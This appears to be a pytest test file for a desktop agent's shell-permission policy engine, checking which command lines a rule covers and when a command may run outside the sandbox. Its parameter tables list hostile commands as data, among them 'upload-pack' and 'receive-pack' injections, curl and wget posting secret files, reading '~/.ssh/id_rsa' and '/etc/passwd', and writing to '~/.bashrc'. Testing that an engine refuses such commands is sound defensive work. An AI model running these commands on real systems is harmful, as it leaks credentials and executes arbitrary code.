"""Which calls a rule covers, when it counts, and what the user is offered."""

from datetime import timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec import structs

from desktop_agent.core.policy.call import CallFacts, PolicyContext
from desktop_agent.core.policy.engine import Allow, Ask, Forbid, decide
from desktop_agent.core.policy.offers import scope_offers
from desktop_agent.core.policy.rules import in_force, matching_rule, patterns_for, validate_pattern
from desktop_agent.core.policy.shell import parse
from desktop_agent.core.protocol.model import Rule
from tests.core.policy.lines import NOW, WORK, bare, rule, run, sandboxed, verdict


def would_match(one: Rule, command: str, *, folder: str, workspace: str = WORK) -> bool:
    call = CallFacts(tool="run_terminal_cmd", capabilities=("exec_shell",), command=command, folder=folder)
    context = PolicyContext(policy="always", now=NOW, rules=(one,), workspace=workspace)
    return matching_rule(call, context) is not None


@pytest.mark.parametrize(
    ("pattern", "command"),
    [
        ("git push", "git push"), ("git push", "git push origin main"), ("git push", "git status && git push"),
        ("git push", "FORCE_COLOR=1 git push"), ("git push", "timeout 9 git push | tail -3"), ("git push",
        "'git' pu\"sh\""),
        ("git push", "bash -c 'git push'"), ("pytest", "cd src && pytest -q"), ("pytest", "pytest > out.txt 2>&1"),
        ("git push", "/usr/bin/git push"), ("ssh host", "ssh host rm x"),
    ],
)  # fmt: skip
def test_an_allow_rule_means_a_line_whose_every_command_it_names_or_only_reads(pattern: str, command: str) -> None:
    assert would_match(rule(pattern), command, folder=WORK, workspace=WORK)


@pytest.mark.parametrize(
    ("pattern", "command"),
    [
        ("git push", "git pushx"), ("git push", "git"), ("git push", "git push; rm x"), ("git push", "git push && $X"),
        ("git push", "git push $X"), ("git push", "git push $(rm x)"), ("git push", "sudo git push"), ("git",
        "PATH=x git a"),
        ("git push", "GIT_SSH_COMMAND=./x git push"), ("git push", "./git push"), ("git push", "/tmp/git push"),
        ("git push", "xargs git push"), ("git push", "eval $X git push"), ("git push", "git push 'x"),
        ("pytest", "pytest > /x"),
        ("pytest", "pytest > ../x"), ("pytest", "pytest > .git/config"), ("pytest", "pytest > .env"),
        ("pytest", "pytest > $X"),
        ("pytest", "cd .. && pytest"), ("pytest", "cd $X && pytest"), ("pytest", "cd .git && pytest > config"),
        ("pytest", "cd a && pytest > ../../x"), ("pytest", "pytest() { rm x; }; pytest"), ("find",
        "find . -exec rm {} +"),
        ("git push", "git push *"), ("pytest", "pytest | tee x"), ("pytest", "{ pytest; } > x"), ("pytest", ""),
        ("git push", "GIT PUSH"), ("git push", "git -C x push"), ("sudo make", "sudo make"), ("git push", "git status"),
    ],
)  # fmt: skip
def test_an_allow_rule_means_nothing_else(pattern: str, command: str) -> None:
    assert not would_match(rule(pattern), command, folder=WORK, workspace=WORK)


def test_forbid_beats_ask_and_ask_beats_allow() -> None:
    allow, ask, forbid = (rule("git push", effect=effect, is_unconfined=True) for effect in ("allow", "ask", "forbid"))
    assert isinstance(verdict("git push", sandboxed("on_write", allow)), Allow)
    asked = verdict("git push", sandboxed("on_request", allow, ask))
    assert isinstance(asked, Ask)
    assert "rule of yours" in asked.reason
    assert isinstance(verdict("git push", sandboxed("on_request", allow, ask, forbid)), Forbid)


def test_an_asking_rule_asks_for_what_would_be_free() -> None:
    assert isinstance(verdict("git status", sandboxed("on_request", rule("git", effect="ask"))), Ask)
    assert isinstance(verdict("git status", sandboxed("never", rule("git", effect="ask"))), Forbid)


def test_rules_for_several_commands_work_together() -> None:
    both = (rule("make", is_unconfined=True), rule("pytest"))
    assert isinstance(verdict("make && pytest", sandboxed("on_write", both[0])), Ask)
    assert verdict("make && pytest", sandboxed("on_write", *both)) == Allow("restricted", both[1])  # the least of them


_BESIDE = ["cat README", "true", "ls -la", "n=1", "cd src", "echo hi", "python3 -m this", "git status"]
_JOINED = [
    "{0}; {1}", "{1}; {0}", "{0} && {1}", "{1} || {0}", "{0} | {1}", "{1} | {0}", "{0} & {1}", "{0}\n{1}",
    "( {0} ); {1}",
    "{{ {1}; {0}; }}", "if {0}; then {1}; fi", "for i in 1 2; do {0}; {1}; done", "while {0}; do {1}; done",
    "{1} $({0})",
    "{1} <({0})", "{1} `{0}`", "f() {{ {0}; }}; {1}", "x=$({0}) {1}", "bash -c '{0}; {1}'", "! {0}; {1}",
    "case x in *) {0};; esac; {1}", "cat <<E\n$({0})\nE\n{1}", "coproc {0}; {1}", "time {0}; {1}",
]  # fmt: skip


@given(
    st.sampled_from(_BESIDE), st.sampled_from(_JOINED), st.sampled_from(["on_write", "on_request", "always", "never"])
)
def test_a_line_leaves_the_sandbox_only_if_every_command_in_it_is_named_by_a_rule_for_that(
    beside: str, form: str, policy: str
) -> None:
    """This holds for reading commands, too: outside they can read what the sandbox hides."""
    rules = (rule("git fetch", is_unconfined=True), rule(beside), rule("cat"), rule("python3 -m this"))
    line = form.format(beside, "git fetch")
    found = verdict(line, sandboxed(policy, *rules))
    assert not isinstance(found, Allow) or found.confinement != "none", line
    assert isinstance(verdict(line, bare(policy, *rules)), Ask | Forbid), line


@pytest.mark.parametrize(
    "line",
    [
        "git fetch", "git fetch; git fetch", "time git fetch", "timeout 9 git fetch", "git fetch 2>&1",
        "git fetch > /dev/null", "LC_ALL=C git fetch", "git fetch && make",
        "( git fetch & )", "/usr/bin/git fetch",
    ],
)  # fmt: skip
def test_a_line_whose_every_command_a_rule_lets_out_runs_outside(line: str) -> None:
    rules = (rule("git fetch", is_unconfined=True), rule("make", is_unconfined=True))
    for context in (sandboxed("on_write", *rules), sandboxed("on_request", *rules), bare("on_write", *rules)):
        found = verdict(line, context)
        assert isinstance(found, Allow), line
        assert found.confinement == "none"


@pytest.mark.parametrize(
    "line",
    [
        "git fetch > out.txt", "git fetch >> ~/.bashrc", "git fetch < in.txt", "git fetch <<< x", "git fetch <<E\nx\nE",
        "git fetch &> out", "git fetch <> f", "x=1 git fetch", "http=x git fetch", "PATH=. git fetch",
        "LC_ALL=$(id) git fetch", "GIT_DIR=evil git fetch", "env git fetch", "env GIT_DIR=evil git fetch",
        "sudo git fetch", "xargs git fetch", "find . -exec git fetch ;", "setsid git fetch", "busybox git fetch",
        "bash -lc 'git fetch'", "eval git fetch", "trap 'git fetch' EXIT", "cd evil && git fetch",
        "pushd evil; git fetch",
        "ssh host git fetch", "nsenter git fetch", "exec git fetch", "git fetch &>> x",
    ],
)  # fmt: skip
def test_what_stands_around_a_command_keeps_a_rule_from_letting_it_out(line: str) -> None:
    rules = (rule("git fetch", is_unconfined=True), rule("cd", is_unconfined=True), rule("git fetch"))
    for policy in ("on_write", "on_request", "always", "never"):
        found = verdict(line, sandboxed(policy, *rules))
        assert not isinstance(found, Allow) or found.confinement != "none", found
        assert isinstance(verdict(line, bare(policy, *rules)), Ask | Forbid)


@pytest.mark.parametrize(
    "line", ["cat .e*; make", "cat $F; make", "grep -r KEY .; make", "grep -R x; make", "rg --hidden x; make",
             "find . -exec cat {} +; make", "xargs cat < list; make", "cat $(ls -a); make", "rg -uu x; make",
             "for f in .*; do cat $f; done; make", "grep --recursive x . && make"]
)  # fmt: skip
def test_beside_a_command_that_a_rule_names_only_named_files_are_read(line: str) -> None:
    """The line runs where secrets can be read, unlike a line that only reads."""
    assert isinstance(verdict(line, sandboxed("on_write", rule("make"))), Ask)


def test_a_rule_made_in_the_sandbox_does_not_run_anything_open() -> None:
    """Without a sandbox only a rule for unconfined runs counts."""
    assert isinstance(verdict("make", bare("on_write", rule("make"))), Ask)
    assert verdict("make", bare("on_write", rule("make", is_unconfined=True))).__class__ is Allow
    assert isinstance(verdict("git push", sandboxed("on_request", rule("git push"))), Ask)
    assert verdict("git push", sandboxed("on_request", free := rule("git push", is_unconfined=True))) == Allow(
        "none", free
    )
    wants = run("make", wants_unconfined=True)
    assert isinstance(decide(wants, sandboxed("on_request", rule("make"))), Ask)
    assert isinstance(decide(wants, sandboxed("on_request", rule("make", is_unconfined=True))), Allow)


def test_an_expired_rule_does_not_count() -> None:
    ending = rule("make", expires_at=NOW)
    assert not in_force(ending, NOW, WORK)
    assert in_force(ending, NOW - timedelta(seconds=1), WORK)
    assert isinstance(verdict("make", sandboxed("on_write", ending)), Ask)


def test_a_projects_rule_counts_in_its_folder_only() -> None:
    ours, theirs = (rule("make", scope="project", workspace=folder) for folder in (WORK, "/home/me/other"))
    assert isinstance(verdict("make", sandboxed("on_write", ours)), Allow)
    assert isinstance(verdict("make", sandboxed("on_write", theirs)), Ask)
    assert not in_force(rule("make", scope="project"), NOW, "")


def test_an_exact_rule_means_the_line_its_folder_and_its_details() -> None:
    exact = rule("make $X", is_exact=True, folder=WORK, details=("Variables: A=1",))
    context = sandboxed("on_write", exact)
    call = run("make $X", details=("Variables: A=1",))
    assert isinstance(decide(call, context), Allow)
    for other in (
        run("make $X"),
        run("make  $X", details=call.details),
        run("make $X", details=call.details, folder="/elsewhere"),
        run("make $X", details=("Variables: PATH=/tmp/evil",)),
    ):
        assert isinstance(decide(other, context), Ask)


def test_a_call_with_details_is_no_plain_call() -> None:
    """The same words with other variables or another shell are another command."""
    assert isinstance(decide(run("make", details=("Shell: fish",)), sandboxed("on_write", rule("make"))), Ask)
    assert isinstance(decide(run("git status", details=("Variables: PATH=x",)), sandboxed("on_write")), Ask)


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("git push origin main", (("git push origin main", "git push origin", "git push", "git"),)),
        ("ls && pytest -q tests", (("pytest -q tests", "pytest"),)),
        ("make && pytest", (("make",), ("pytest",))),
        ("make; make", (("make",),)),
        ("python x.py -v", (("python x.py -v", "python x.py"),)),
        ("python -m pytest -q", (("python -m pytest -q", "python -m pytest"),)),
        ("rm -rf build", (("rm -rf build",),)),
        ("npm run test -- x", (("npm run test -- x", "npm run test", "npm"),)),
        ("git commit -m 'a b'", (("git commit -m 'a b'", "git commit", "git"),)),
        ("bash x.sh a", (("bash x.sh a", "bash x.sh"),)),
        ("timeout 5 make", (("make",),)),
        ("ls", ()), ("sudo make", ()), ("$X", ()), ("make $X", ()), ("echo 'x", ()), ("PATH=x make", ()),
        ("xargs make", ()),
    ],
)  # fmt: skip
def test_patterns_go_from_the_narrowest_to_the_widest_that_is_sensible(
    command: str, expected: tuple[tuple[str, ...], ...]
) -> None:
    assert patterns_for(parse(command)) == expected
    for patterns in expected:
        for pattern in patterns:
            assert validate_pattern("command", pattern) is None
    if len(expected) == 1:
        assert all(would_match(rule(pattern), command, folder=WORK) for pattern in expected[0])


@pytest.mark.parametrize(
    ("kind", "pattern", "word"),
    [
        ("command", "", "empty"), ("command", "a | b", "several"), ("command", "a && b", "several"),
        ("command", "sudo make", "sudo"),
        ("command", "env", "env"), ("command", "A=1 make", "variables"), ("command", "python", "runs any program"),
        ("command", "bash", "runs any program"), ("command", "rm -rf", "works on"), ("command", "make $X",
        "as they are"),
        ("command", "make 'x", "quotes"), ("command", "make > x", "redirections"), ("command", "ls", "only reads"),
        ("command", "bash -c 'make'", "looked through"), ("command", "node", "runs any program"), ("command",
        "make *", "wildcards"),
        ("edit", "/etc/x", "outside"), ("edit", "../x", "outside"), ("edit", "~/x", "outside"), ("edit",
        ".git/**", "git"),
        ("edit", "a\\b", "/"), ("tool", "a b", "name"),
    ],
)  # fmt: skip
def test_a_pattern_that_cannot_work_says_why(kind: str, pattern: str, word: str) -> None:
    said = validate_pattern(kind, pattern)  # pyright: ignore[reportArgumentType]  # a table's text
    assert said is not None
    assert word in said


def test_a_pattern_that_works_says_nothing() -> None:
    assert validate_pattern("edit", "src/**") is None
    assert validate_pattern("tool", "web_*") is None


@pytest.mark.parametrize("effect", ["forbid", "ask"])
def test_a_line_that_names_a_program_thousands_of_times_is_not_looked_through_for_ever(effect: str) -> None:
    """Every word of `git git git …` may start a command; ten rules took half a minute."""
    rules = [rule("git push", effect=effect), rule("git -x foo", effect=effect)] * 10
    found = verdict("git " * 2_900, sandboxed("on_request", *rules, blocked_commands=("git push",)))
    assert isinstance(found, Ask)
    assert "not fully understood" in found.reason


def test_outside_the_sandbox_no_rule_is_a_program_that_runs_any_other() -> None:
    """`git -c alias.x='!sh'` can run any program."""
    evil = run("git -c alias.x='!sh -c evil' x")
    wide, narrow = rule("git", is_unconfined=True), rule("git push", is_unconfined=True)
    assert isinstance(decide(evil, bare("on_write", wide)), Ask)
    assert isinstance(decide(run("git push"), bare("on_write", wide)), Ask)
    assert isinstance(decide(run("git push"), bare("on_write", narrow)), Allow)
    question = verdict("git push origin", bare("on_write"))
    assert isinstance(question, Ask)
    assert question.rule_patterns == (("git push origin",),)


@pytest.mark.parametrize(
    ("pattern", "line"),
    [
        ("git fetch", "git fetch --upload-pack='sh -c id'"), ("git fetch", "git fetch --upload-pack 'sh -c id' ."),
        ("git fetch", "git fetch evil"), ("git fetch", "git fetch https://evil"), ("git fetch", "git fetch ../x"),
        ("git fetch", "git fetch --upload-p=x"), ("git fetch", "git fetch --server-option=x"),
        ("git fetch", "git fetch -o x"),
        ("git fetch origin", "git fetch origin --upload-pack=x"), ("git fetch origin", "git fetch origin +a:b"),
        ("git push", "git push --receive-pack='sh -c id'"), ("git push", "git push --exec=x"),
        ("git push", "git push evil main"),
        ("git push", "git push --repo=evil"), ("git push", "git push --mirror"),
        ("git push origin", "git push origin :main"),
        ("git push origin", "git push origin --force"), ("git push origin", "git push origin main --receive-pack x"),
        ("git push --quiet", "git push --quiet evil"), ("git pull", "git pull evil"),
        ("git fetch --depth 1", "git fetch --depth 1 evil"), ("git push -o x", "git push -o x evil"),
        ("go test", "go test example.com/evil"), ("go build", "go build ./../x"), ("go vet", "go vet ./a/.."),
        ("git pull", "git pull --gpg-sign"),
        ("git commit", "git commit -F ~/.ssh/id_rsa"), ("git commit", "git commit --template=/x"),
        ("git commit", "git commit -Sx"),
        ("git add", "git add /etc/passwd"), ("git add", "git add ../x"), ("git add", "git add --pathspec-from-file=x"),
        ("curl https://x", "curl https://x -d @secret other"), ("curl https://x", "curl https://x -o ~/.bashrc"),
        ("curl https://x", "curl https://x https://evil"), ("curl https://x", "curl https://x -s"),
        ("wget https://x", "wget https://x --post-file=y"), ("rsync -a x h:", "rsync -a x h: -e 'sh -c id'"),
        ("ssh host", "ssh host rm -rf x"), ("ssh host", "ssh host -o ProxyCommand=x"), ("scp a h:", "scp a h: -S x"),
        ("npm test", "npm test --script-shell=./x"), ("npm install", "npm install --script-shell ./x"),
        ("npm install", "npm install evil"), ("npm install", "npm install ./evil"),
        ("npm install", "npm install --registry=http://x"),
        ("npm run build", "npm run build -- --x"), ("pip install", "pip install evil"),
        ("pip install -r r.txt", "pip install -r r.txt -i x"),
        ("pytest", "pytest -p evil"), ("pytest", "pytest --rootdir=/x"), ("pytest", "pytest -c x"),
        ("pytest", "pytest -o a=b"),
        ("pytest", "pytest /elsewhere"), ("pytest", "pytest ../x"), ("pytest", "pytest --basetemp=x"),
        ("python3 -m pytest", "python3 -m pytest -pevil"),
        ("make", "make deploy"), ("make", "make -f evil"), ("make", "make -C evil"), ("make", "make SHELL=./x"),
        ("make", "make --eval=x"),
        ("make -j4", "make -j4 CC=./x"), ("cargo test", "cargo test --config x"),
        ("cargo build", "cargo build --manifest-path x"),
        ("go test", "go test -exec ./x"), ("go build", "go build -toolexec ./x"), ("go build", "go build -o /x"),
        ("docker run x", "docker run x sh"),
        ("./deploy.sh", "./deploy.sh prod"), ("deploy", "deploy --x"), ("tar -cf x", "tar -cf x --to-command=y"),
        ("tar -cf x", "tar -cf x a"),
        ("git", "git fetch"), ("cp a b", "cp a b ~/.bashrc"), ("gh pr list", "gh pr list --repo x"),
        ("git -C evil fetch", "git -C evil fetch -q x"),
    ],
)  # fmt: skip
def test_a_rule_for_outside_covers_no_program_file_or_host_that_it_does_not_name(pattern: str, line: str) -> None:
    """Deny by default: options not known to be harmless, and all unknown programs, ask."""
    free = rule(pattern, is_unconfined=True)
    for policy in ("on_write", "on_request", "always"):
        found = verdict(line, sandboxed(policy, free))
        assert not isinstance(found, Allow) or found.confinement != "none", found
        assert isinstance(verdict(line, bare(policy, free)), Ask)


@pytest.mark.parametrize(
    ("pattern", "line"),
    [
        ("git fetch", "git fetch"), ("git fetch", "git fetch -q --prune"),
        ("git fetch origin", "git fetch origin main"),
        ("git push origin", "git push origin main"), ("git push", "git push -u"),
        ("git pull", "git pull --ff-only"), ("git commit", "git commit -m 'a b' src/a.py"),
        ("git add", "git add src/a.py b"), ("git add", "git add -A"), ("npm install", "npm install --no-audit"),
        ("npm test", "npm test"),
        ("pytest", "pytest -q -x tests/a.py::test_b -k 'a or b'"), ("python3 -m pytest", "python3 -m pytest -q tests"),
        ("cargo test", "cargo test --release -p core"), ("go test", "go test -run X ./..."), ("make", "make -j4"),
        ("make all", "make all -k"),
    ],
)  # fmt: skip
def test_a_rule_for_outside_covers_what_is_known_to_be_harmless(pattern: str, line: str) -> None:
    assert isinstance(verdict(line, bare("on_write", rule(pattern, is_unconfined=True))), Allow)


@pytest.mark.parametrize(
    ("changed", "word"),
    [
        ({"repository": "/home/me/other"}, "another repository"), ({"repository_mark": "changed"}, "has changed"),
        ({"repository": "", "repository_mark": ""}, "changes to another folder"),
    ],
)  # fmt: skip
def test_a_rule_for_outside_counts_in_its_repository_as_it_was_made(changed: dict[str, str], word: str) -> None:
    for made in (rule("git fetch", is_unconfined=True), rule("git fetch", is_unconfined=True, is_exact=True)):
        assert isinstance(verdict("git fetch", sandboxed("on_write", made)), Allow)
        for context in (sandboxed("on_write", made), bare("on_write", made)):
            found = decide(run("git fetch", **changed), context)
            assert isinstance(found, Ask)
            assert word in found.risks[0]


def test_an_old_rule_that_names_no_repository_does_not_count_outside_and_says_so() -> None:
    old = rule("git fetch", is_unconfined=True, repository="", repository_mark="")
    for context in (sandboxed("on_write", old), bare("on_write", old)):
        found = verdict("git fetch", context)
        assert isinstance(found, Ask)
        assert "does not say in which repository it was made" in found.risks[0]
    assert verdict("make", sandboxed("on_write", structs.replace(old, pattern="make"))) == Allow(
        "restricted", structs.replace(old, pattern="make")
    )


def test_a_rule_that_asks_keeps_what_the_question_says_of_leaving_the_sandbox() -> None:
    question = verdict("git push", sandboxed("on_request", rule("git push", effect="ask")))
    assert isinstance(question, Ask)
    assert question.is_escalation
    assert "A rule of yours asks" in question.reason


def test_without_bash_no_pattern_is_offered_for_a_line_that_a_plain_sh_reads_differently() -> None:
    """To dash `make &> f` is `make &` and `> f`: no pattern could allow the line."""
    line = "make &> f"
    assert isinstance(verdict(line, sandboxed("on_write", rule("make"))), Allow)
    asked = verdict(line, sandboxed("on_write", rule("make"), shell="sh"))
    assert isinstance(asked, Ask)
    assert asked.rule_patterns == ()
    assert not any(offer.is_quick for offer in scope_offers(run(line), asked))
    assert isinstance(verdict("((ls)) && x", sandboxed("on_request", rule("rm", effect="ask"), shell="sh")), Ask)
    assert isinstance(verdict("((1)) && x", sandboxed("on_request", rule("rm", effect="ask"))), Allow)
